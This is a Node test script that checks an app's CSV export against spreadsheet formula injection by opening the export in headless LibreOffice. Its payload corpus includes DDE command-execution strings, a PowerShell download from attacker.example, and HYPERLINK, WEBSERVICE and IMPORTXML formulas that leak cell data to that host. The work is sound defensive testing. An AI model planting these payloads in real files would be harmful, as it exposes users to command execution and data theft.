// CSV formula injection, end to end: exports a session full of hostile text
// with the real sessionToCsv, opens the file in LibreOffice Calc (headless,
// converted to flat ODS) and fails if any cell became a formula, if a row was
// lost or added, or if the offsets and theme flags are not plain numbers.
// A control file with the same payloads, not neutralized, must produce
// formulas: that proves this LibreOffice evaluates them, so the check can fail.
//
//   npm run check:csv-libreoffice     (needs `soffice`: apt-get install libreoffice-calc-nogui)
//
// Plain Node 20: the TypeScript sources are loaded with Vite's module runner.
import { spawnSync } from 'node:child_process'
import console from 'node:console'
import { createHash } from 'node:crypto'
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { dirname, join, resolve } from 'node:path'
import process from 'node:process'
import { fileURLToPath, pathToFileURL } from 'node:url'
import { parse } from 'csv-parse/sync'
import { stringify } from 'csv-stringify/sync'
import { runnerImport } from 'vite'

const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), '..')
const SOFFICE = process.env.SOFFICE || 'soffice'

/** Formula triggers, DDE, HYPERLINK, full-width forms, control characters, emoji. */
export const CORPUS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '=SUM(1;2)',
  '=HYPERLINK("https://attacker.example/?leak="&A1;"Click me")',
  '=HYPERLINK("https://attacker.example/","Click me")',
  "=cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget attacker.example/x)'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!E1",
  '=DDE("cmd";"/C calc";"!A0")',
  '=WEBSERVICE("http://attacker.example/")',
  '=IMPORTXML(CONCAT("http://attacker.example/?v=";A1);"//a")',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '=1+1\n=2+2',
  'première ligne\nseconde ligne\r\ntroisième\rquatrième',
  '"=1+1"',
  "'=1+1",
  ' =1+1',
  '1;=2',
  '😀 =1+1 👩‍💻',
  '=😀',
  'Texte ordinaire, avec une virgule et des "guillemets".',
]

const T0 = '2025-03-01T08:00:00.000Z'

/** A session whose article, passages, notes, authors, title and themes are the corpus. */
function hostileSession({ makePassage }) {
  const text = CORPUS.join('\n')
  const codebook = CORPUS.slice(0, 9).map((name, i) => ({
    id: `t${i}`,
    name,
    colour: '#000000',
    key: String(i + 1),
  }))
  let at = 0
  const passages = CORPUS.map((quote, i) => {
    const start = at
    at += quote.length + 1
    return {
      ...makePassage(text, {
        id: `-p${i}`,
        start,
        end: start + quote.length,
        themeIds: codebook.filter((_, k) => (i >> k) & 1).map((t) => t.id),
        author: CORPUS[(i + 7) % CORPUS.length].slice(0, 200),
        now: T0,
      }),
      note: CORPUS[(i + 3) % CORPUS.length],
    }
  })
  return {
    schemaVersion: 1,
    id: 'hostile',
    createdAt: T0,
    updatedAt: T0,
    document: {
      title: "=cmd|' /C calc'!A0",
      sourceFileName: 'hostile.txt',
      text,
      sha256: createHash('sha256').update(text, 'utf8').digest('hex'),
    },
    codebook,
    passages,
    ui: { scrollTop: 0 },
  }
}

const ENTITIES = { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'" }
const decode = (s) =>
  s.replace(/&(#x[0-9a-f]+|#\d+|\w+);/gi, (_, e) =>
    e[0] === '#'
      ? String.fromCodePoint(
          e[1] === 'x' || e[1] === 'X' ? parseInt(e.slice(2), 16) : Number(e.slice(1)),
        )
      : ENTITIES[e],
  )

function attributes(tag) {
  const attrs = {}
  for (const [, name, value] of tag.matchAll(/([\w:-]+)="([^"]*)"/g)) attrs[name] = decode(value)
  return attrs
}

/** The text of a cell: paragraphs joined by LF, spaces, tabs and line breaks restored. */
function cellText(inner) {
  return [...inner.matchAll(/<text:p(?:\s[^>]*)?(?:\/>|>([\s\S]*?)<\/text:p>)/g)]
    .map(([, p = '']) =>
      decode(
        p
          .replace(/<text:s(?:\s+text:c="(\d+)")?\s*\/>/g, (_, n) => ' '.repeat(Number(n ?? 1)))
          .replace(/<text:tab\s*\/>/g, '\t')
          .replace(/<text:line-break\s*\/>/g, '\n')
          .replace(/<[^>]+>/g, ''),
      ),
    )
    .join('\n')
}

/**
 * The first sheet of a flat ODS file as rows of cells { attrs, text }, with
 * repeated rows and columns expanded and trailing empty cells dropped.
 */
export function readSheet(fods) {
  const table = fods.match(/<table:table [^>]*>([\s\S]*?)<\/table:table>/)
  if (!table) throw new Error('no table in the converted file')
  const rows = []
  for (const [, rowTag, rowInner] of table[1].matchAll(
    /<table:table-row([^>]*?)(?:\/>|>([\s\S]*?)<\/table:table-row>)/g,
  )) {
    const cells = []
    for (const [, cellTag, cellInner = ''] of (rowInner ?? '').matchAll(
      /<table:(?:covered-)?table-cell([^>]*?)(?:\/>|>([\s\S]*?)<\/table:(?:covered-)?table-cell>)/g,
    )) {
      const attrs = attributes(cellTag)
      const cell = { attrs, text: cellText(cellInner) }
      const repeat = Number(attrs['table:number-columns-repeated'] ?? 1)
      for (let i = 0; i < Math.min(repeat, 1024); i++) cells.push(cell)
    }
    while (cells.length && !cells.at(-1).attrs['office:value-type'] && !cells.at(-1).text)
      cells.pop()
    const repeat = Number(attributes(rowTag)['table:number-rows-repeated'] ?? 1)
    for (let i = 0; i < Math.min(repeat, 1024); i++) rows.push(cells)
  }
  while (rows.length && rows.at(-1).length === 0) rows.pop()
  return rows
}

/** Converts CSV files to flat ODS with LibreOffice's CSV import (comma, ", UTF-8, from line 1). */
function convert(files, outDir, profileDir) {
  const run = spawnSync(
    SOFFICE,
    [
      `-env:UserInstallation=${pathToFileURL(profileDir).href}`,
      '--headless',
      '--norestore',
      '--nolockcheck',
      '--infilter=CSV:44,34,76,1',
      '--convert-to',
      'fods',
      '--outdir',
      outDir,
      ...files,
    ],
    { encoding: 'utf8', timeout: 300_000 },
  )
  if (run.error) throw new Error(`cannot run ${SOFFICE}: ${run.error.message}`)
  if (run.status !== 0) throw new Error(`soffice exited with ${run.status}: ${run.stderr}`)
}

/**
 * Compares a cell's text as LibreOffice shows it with the CSV value. Calc 7.4
 * drops tab characters inside quoted fields and reads LF CR as one line
 * break, so tabs and line breaks are left out of the comparison; every other
 * character, the leading apostrophe included, must be there.
 */
const sameText = (shown, value) => {
  const visible = (s) => s.replace(/[\t\r\n]/g, '')
  return visible(shown) === visible(value)
}

export async function checkCsvInLibreOffice({ log = console.log } = {}) {
  // The sources import @shared/… (the alias of tsconfig.base.json).
  const load = (path) =>
    runnerImport(join(ROOT, path), {
      configFile: false,
      logLevel: 'silent',
      resolve: { alias: { '@shared': join(ROOT, 'src/shared') } },
    })
  const { module: csv } = await load('src/main/export/csv.ts')
  const { module: edits } = await load('src/shared/model/edits.ts')

  const session = hostileSession(edits)
  const exported = csv.sessionToCsv(session)
  const expected = parse(exported, { bom: true })
  const header = expected[0]
  const numeric = new Set([3, 4, ...session.codebook.map((_, i) => 9 + i)])

  const dir = await mkdtemp(join(tmpdir(), 'gloss-csv-lo-'))
  const problems = []
  const check = (ok, message) => {
    if (!ok) problems.push(message)
    return ok
  }
  try {
    await writeFile(join(dir, 'hostile.csv'), exported)
    // The control: the same payloads as cells, not neutralized.
    await writeFile(join(dir, 'control.csv'), stringify(CORPUS.map((c) => [c, 'x'])))
    const started = Date.now()
    convert([join(dir, 'hostile.csv'), join(dir, 'control.csv')], dir, join(dir, 'profile'))
    log(`LibreOffice converted both files in ${Date.now() - started} ms`)

    const control = await readFile(join(dir, 'control.fods'), 'utf8')
    const controlFormulas = control.match(/table:formula=/g)?.length ?? 0
    check(
      controlFormulas > 0,
      'LibreOffice evaluates formulas in the control file (else this check proves nothing)',
    )

    const fods = await readFile(join(dir, 'hostile.fods'), 'utf8')
    const formulas = fods.match(/table:formula=/g)?.length ?? 0
    check(formulas === 0, `no table:formula in the export (found ${formulas})`)
    const rows = readSheet(fods)
    check(
      rows.length === expected.length,
      `rows: LibreOffice ${rows.length}, CSV ${expected.length}`,
    )

    let cells = 0
    for (const [r, want] of expected.entries()) {
      const got = rows[r] ?? []
      for (const [c, value] of want.entries()) {
        cells++
        const cell = got[c] ?? { attrs: {}, text: '' }
        const type = cell.attrs['office:value-type'] ?? 'empty'
        const where = `row ${r + 1}, ${header[c]}`
        check(!('table:formula' in cell.attrs), `${where}: a formula`)
        if (r > 0 && numeric.has(c)) {
          check(type === 'float', `${where}: "${value}" is ${type}, not a number`)
          check(
            Number(cell.attrs['office:value']) === Number(value),
            `${where}: ${cell.attrs['office:value']} ≠ ${value}`,
          )
        } else if (value === '') {
          check(
            type === 'empty' || (type === 'string' && cell.text === ''),
            `${where}: should be empty, is ${type}`,
          )
        } else if (/^(0|[1-9]\d*)$/.test(value)) {
          // Digits in a text column: LibreOffice may show a number; never a formula (checked above).
        } else {
          check(type === 'string', `${where}: ${JSON.stringify(value)} became ${type}`)
          check(
            sameText(cell.text, value),
            `${where}: ${JSON.stringify(cell.text)} ≠ ${JSON.stringify(value)}`,
          )
        }
      }
    }
    const neutralized = expected.flat().filter((v) => v.startsWith("'")).length
    log(
      `hostile export: ${expected.length} rows, ${cells} cells (${neutralized} neutralized with '), ` +
        `${CORPUS.length} payloads; control: ${controlFormulas} formulas evaluated by LibreOffice`,
    )
    for (const p of problems.slice(0, 40)) log(`  FAIL ${p}`)
    log(
      `LibreOffice CSV check: ${problems.length ? `FAILED (${problems.length} problems)` : 'passed'}`,
    )
    return {
      ok: problems.length === 0,
      problems,
      rows: rows.length,
      cells,
      formulas,
      controlFormulas,
    }
  } finally {
    await rm(dir, { recursive: true, force: true })
  }
}

if (process.argv[1] && import.meta.url === pathToFileURL(process.argv[1]).href) {
  const { ok } = await checkCsvInLibreOffice()
  process.exitCode = ok ? 0 : 1
}
